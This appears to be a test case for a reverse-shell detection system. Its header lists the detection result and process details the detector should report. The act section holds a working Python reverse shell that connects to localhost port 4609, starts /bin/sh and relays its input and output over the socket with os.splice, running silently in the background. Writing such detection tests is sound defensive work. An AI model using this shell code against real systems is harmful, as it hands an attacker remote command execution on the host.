# R32: a relay by splice, which holds the lock of the pipe
# stage: behaviour
# within: 1500 ms
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.length: 2
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4609
#   reverse_shell.process_list.1.process_id: $shell

#: prepare
. lib/peers.sh
commander 4609 2 id
#: act
. lib/peers.sh
act
python3 -c '
import os, socket, subprocess, threading
s = socket.create_connection(("127.0.0.1", 4609))
shell = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, bufsize=0)
def relay(source, sink):
    while os.splice(source, sink, 4096): pass
    os._exit(0)
threading.Thread(target=relay, args=(shell.stdout.fileno(), s.fileno())).start()
relay(s.fileno(), shell.stdin.fileno())' < /dev/null > /dev/null 2>&1 &
who shell /bin/sh
